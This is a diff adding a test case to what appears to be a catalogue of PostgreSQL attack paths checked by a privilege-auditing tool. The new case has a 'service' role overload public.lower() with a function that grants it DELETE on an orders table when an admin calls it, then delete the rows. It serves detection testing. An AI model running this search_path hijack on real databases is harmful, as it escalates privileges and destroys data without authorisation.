@@ -27,6 +27,21 @@ export const paths: readonly Attack[] = [
     outcome: { found: ['TUP040', 'schema public', 'PUBLIC -> granted by pg_database_owner'] },
   },
   {
+    title: 'CREATE on the schema public, as PostgreSQL 14 gives it to everybody',
+    setup: `grant create on schema public to public; set role {admin}; create table {app}.people (name varchar(50)); insert into {app}.people values ('Ann')`,
+    attack: [
+      [
+        'service',
+        `create function public.lower(varchar) returns text language plpgsql as
+          'begin grant delete on {app}.orders to {service}; return $1; end'`,
+      ],
+      ['admin', 'set local search_path to default; select lower(name) from {app}.people'],
+      ['service', 'delete from {app}.orders'],
+    ],
+    ...gone,
+    outcome: { found: ['TUP040', 'schema public', 'PUBLIC -> granted by pg_database_owner'] },
+  },
+  {
     title: 'CREATE on a schema that the database’s search_path names',
     setup: `set role {admin}; create schema {outside}; grant usage, create on schema {outside} to {service};
       alter database {db} set search_path = {outside}, public`,
